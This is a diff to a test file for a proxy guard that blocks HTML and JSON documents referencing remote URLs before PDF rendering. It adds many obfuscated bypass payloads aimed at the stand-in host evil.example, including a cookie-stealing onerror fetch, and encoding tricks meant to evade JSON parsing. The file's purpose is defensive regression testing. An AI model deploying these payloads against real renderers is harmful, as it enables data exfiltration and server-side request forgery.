@@ -3,7 +3,7 @@
 // local references (data: URIs, fragments, relative paths) and text that merely mentions a URL pass.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { decodeEntities, findRemoteInBody, findRemoteReference, isRemoteUrl, otherReadings } from '../../data-plane/proxy/pdf-guard.js';
+import { decodeEntities, decodeJsonBytes, findRemoteInBody, findRemoteReference, isRemoteUrl, otherReadings } from '../../data-plane/proxy/pdf-guard.js';
 
 /** [document, what the finding names (a substring of `where`), the URL it names (substring)] */
 const REMOTE: Array<[string, string, string]> = [
@@ -60,6 +60,32 @@ const REMOTE: Array<[string, string, string]> = [
   ['<style>p::before { content: "/*" } body { background: url(https://evil.example/a.png) } /* */</style>', 'style url()', 'https://evil.example'],
   ['<div style="background:u\\72 l(https://evil.example/bg.png)"></div>', 'style url()', 'https://evil.example'],
   ['<style>@import "\\68ttps://evil.example/x.css";</style>', 'style @import', 'https://evil.example'],
+  // Issue 21, finding 5: before the fix each of the rows below was forwarded to the backend. A data:
+  // document (HTML, SVG, XML, CSS) is loaded by the renderer and can reference more; an on* handler is
+  // script; an SVG animation can write a URL into an attribute.
+  ['<iframe src="data:text/html,<img src=https://evil.example/x.png>"></iframe>', 'iframe src data: img src', 'https://evil.example/x.png'],
+  ['<iframe src="data:text/html,%3Cimg%20src%3D%22https%3A%2F%2Fevil.example%2Fx.png%22%3E"></iframe>', 'iframe src data: img src', 'https://evil.example/x.png'],
+  [`<iframe src="data:text/html;base64,${Buffer.from('<img src="https://evil.example/b64.png">').toString('base64')}"></iframe>`, 'iframe src data: img src', 'https://evil.example/b64.png'],
+  [`<object data="DATA:Text/HTML ; Charset=UTF-8 ;BASE64,${Buffer.from('<link rel=stylesheet href=//evil.example/c.css>').toString('base64')}"></object>`, 'object data data: link href', '//evil.example/c.css'],
+  ['<embed src="d\ta\nta:text/html,<img src=//evil.example/tabs.png>">', 'embed src data: img src', '//evil.example/tabs.png'],
+  ['<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'https://evil.example/i.png\'/></svg>">', 'img src data: image href', 'https://evil.example/i.png'],
+  ['<img src="data:image/svg+xml;utf8,%3Csvg%3E%3Cstyle%3E@import \'https://evil.example/s.css\'%3C/style%3E%3C/svg%3E">', 'img src data: style @import', 'https://evil.example/s.css'],
+  ['<img srcset="data:image/svg+xml,<svg><image%20href=\'//evil.example/set.png\'/></svg> 1x, b.png 2x">', 'img srcset data: image href', '//evil.example/set.png'],
+  ['<link rel="stylesheet" href="data:text/css,@import url(https://evil.example/x.css);">', 'link href data: style url()', 'https://evil.example/x.css'],
+  ['<style>@import "data:text/css,body{background:url(//evil.example/bg.png)}";</style>', 'style @import data: style url()', '//evil.example/bg.png'],
+  ['<div style="background:url(\'data:image/svg+xml,<svg><image href=&quot;https://evil.example/d.png&quot;/></svg>\')"></div>', 'div style url() data: image href', 'https://evil.example/d.png'],
+  ['<meta http-equiv="refresh" content="0; url=data:text/html,<img src=https://evil.example/m.png>">', 'meta refresh data: img src', 'https://evil.example/m.png'],
+  ['<iframe src="data:application/xhtml+xml,<html xmlns=\'http://www.w3.org/1999/xhtml\'><img src=\'https://evil.example/x.png\'/></html>"></iframe>', 'data: img src', 'https://evil.example/x.png'],
+  [`<iframe src="data:text/html;charset=utf-16le;base64,${Buffer.from('<img src="https://evil.example/u16.png">', 'utf16le').toString('base64')}"></iframe>`, 'data: img src', 'https://evil.example/u16.png'],
+  ['<img src="x" onerror="fetch(\'https://evil.example/steal?\'+document.cookie)">', 'img onerror', 'https://evil.example/steal'],
+  ['<body ONLOAD="location=\'//evil.example/go\'">', 'body onload', '//evil.example/go'],
+  ['<svg onload="new Image().src=&quot;https&colon;//evil.example/p&quot;"></svg>', 'svg onload', 'https://evil.example/p'],
+  ['<img src=x onerror="fetch(\'\\x68ttps://evil.example/hex\')">', 'img onerror', 'https://evil.example/hex'],
+  ['<script>fetch("\\u0068ttps://evil.example/u")</script>', 'script', 'https://evil.example/u'],
+  ['<script>fetch(\'//evil.example/rel\')</script>', 'script', '//evil.example/rel'],
+  ['<svg><a><set attributeName="href" to="https://evil.example/set"/></a></svg>', 'set to', 'https://evil.example/set'],
+  ['<svg><image><animate attributeName="href" values="a.png;https://evil.example/anim.png"/></image></svg>', 'animate values', 'https://evil.example/anim.png'],
+  ['<a href="#" ping="/local https://evil.example/ping">x</a>', 'a ping', 'https://evil.example/ping'],
 ];
 
 test('large hostile documents are read in linear time', () => {
@@ -96,6 +122,13 @@ const LOCAL: Array<[string, string]> = [
   ['<script>// a comment\nconst x = 1 // another</script>', 'script line comments'],
   ['<textarea><img src="https://evil.example/a.png"></textarea>', 'markup inside a textarea is text'],
   ['', 'an empty document'],
+  ['<iframe src="data:text/html,<p>only text, <a href=#top>a fragment</a></p>"></iframe>', 'a data: HTML document that references nothing remote'],
+  ['<img src="data:image/svg+xml,<svg><rect fill=\'url(%23g)\'/></svg>">', 'a data: SVG with a local reference'],
+  [`<img src="data:image/png;base64,${Buffer.from('<img src="https://not-markup.example/">').toString('base64')}">`, 'a data: image is not a document'],
+  ['<a href="data:text/plain,<img src=https://evil.example/x>">text</a>', 'a data: text/plain is not a document'],
+  ['<img src="a.png" onerror="this.remove()"><p onclick="alert(\'// hi\')">x</p>', 'on* handlers that fetch nothing'],
+  ['<script>const pattern = "//"; // comment\nconst s = \'a // b\'</script>', 'slashes in script strings that are not URLs'],
+  ['<svg><rect><animate attributeName="width" values="0;10;0"/></rect></svg>', 'an animation of a number'],
 ];
 
 test('every remote reference is found, whatever its spelling', () => {
@@ -181,4 +214,66 @@ test('bodies the guard cannot read to the end are refused, never passed unread',
   let flat: unknown = { html: '<p>ok</p>' };
   for (let i = 0; i < 70; i++) flat = { a: [flat] };
   assert.equal(findRemoteInBody(Buffer.from(JSON.stringify(flat)), 'application/json'), null);
+});
+
+test('JSON bodies are read as the backend reads them: UTF-16 and UTF-32, a BOM, NaN, no Content-Type', () => {
+  // Issue 21, finding 5: before the fix a UTF-16 JSON body was read as UTF-8, failed to parse and
+  // was scanned as text in which the markup did not show; Python's json.loads read it and the
+  // backend rendered the remote reference. The other rows were bypasses of the same kind.
+  const payload = JSON.stringify({ html: '<img src="https://evil.example/x.png">' });
+  const escaped = '{"html":"\\u003cimg src=\\"https://evil.example/x.png\\"\\u003e"}';
+  const bodies: Array<[string, Buffer, string]> = [
+    ['UTF-16LE, no BOM', Buffer.from(payload, 'utf16le'), 'application/json'],
+    ['UTF-16BE, no BOM', Buffer.from(payload, 'utf16le').swap16(), 'application/json'],
+    ['UTF-16LE with a BOM', Buffer.from(`\ufeff${payload}`, 'utf16le'), 'application/json'],
+    ['UTF-16BE with a BOM, escaped markup', Buffer.from(`\ufeff${escaped}`, 'utf16le').swap16(), 'application/json'],
+    ['UTF-32LE', utf32(payload, true), 'application/json'],
+    ['UTF-32BE with a BOM', utf32(`\ufeff${escaped}`, false), 'application/json'],
+    ['UTF-8 with a BOM, escaped markup', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(escaped)]), 'application/json'],
+    ['NaN (Python accepts it), escaped markup', Buffer.from(escaped.replace('{', '{"scale":NaN,')), 'application/json'],
+    ['no Content-Type (FastAPI reads JSON), escaped markup', Buffer.from(escaped), ''],
+    ['text/plain that is JSON, escaped markup', Buffer.from(escaped), 'text/plain'],
+    ['UTF-16 JSON declared as text/plain', Buffer.from(escaped, 'utf16le'), 'text/plain'],
+  ];
+  for (const [what, body, type] of bodies) {
+    const found = findRemoteInBody(body, type);
+    assert.ok(found, `${what}: not found`);
+    assert.equal(found.url, 'https://evil.example/x.png', what);
+  }
+  const local = JSON.stringify({ html: '<p>ok</p>', url: 'https://not-html.example/' });
+  for (const body of [Buffer.from(local, 'utf16le'), utf32(local, false), Buffer.from(local.replace('{', '{"x":NaN,'))]) {
+    assert.equal(findRemoteInBody(body, 'application/json'), null);
+  }
+  assert.equal(decodeJsonBytes(utf32('{"a":"\u{1f600}"}', true)), '{"a":"\u{1f600}"}');
+});
+
+test('data: documents nested deeper than three are refused unread', () => {
+  let doc = '<p>local</p>';
+  for (let i = 0; i < 5; i++) doc = `<iframe src="data:text/html;base64,${Buffer.from(doc).toString('base64')}"></iframe>`;
+  assert.match(findRemoteReference(doc)?.where ?? '', /nested more than 3 deep/);
+  let shallow = '<p>local</p>';
+  for (let i = 0; i < 3; i++) shallow = `<iframe src="data:text/html;base64,${Buffer.from(shallow).toString('base64')}"></iframe>`;
+  assert.equal(findRemoteReference(shallow), null);
+});
+
+function utf32(text: string, littleEndian: boolean): Buffer {
+  const cps = [...text].map((c) => c.codePointAt(0)!);
+  const b = Buffer.alloc(cps.length * 4);
+  cps.forEach((cp, i) => (littleEndian ? b.writeUInt32LE(cp, i * 4) : b.writeUInt32BE(cp, i * 4)));
+  return b;
+}
+
+test('the JSON and data: readers are linear on hostile bodies', () => {
+  const n = 200_000;
+  const bodies: Array<[Buffer, string]> = [
+    [Buffer.from(`{"a":NaN,${'"\\u003c",'.repeat(n)}`), 'application/json'],
+    [Buffer.from(`[${'"<p x=\\"'.repeat(n)}`), 'application/json'],
+    [Buffer.from(`{"html":"<img src=\\"data:text/html,${'%3C'.repeat(n)}\\">"}`), 'application/json'],
+    [Buffer.from(`<img onerror="${'\\x'.repeat(n)}" srcset="${'data:image/svg+xml,a '.repeat(n / 10)}">`), 'text/html'],
+    [Buffer.from(`<script>${'"/'.repeat(n)}</script>`), 'text/html'],
+  ];
+  const started = performance.now();
+  for (const [body, type] of bodies) findRemoteInBody(body, type);
+  const ms = performance.now() - started;
+  assert.ok(ms < 5000, `took ${ms.toFixed(0)} ms`);
 });
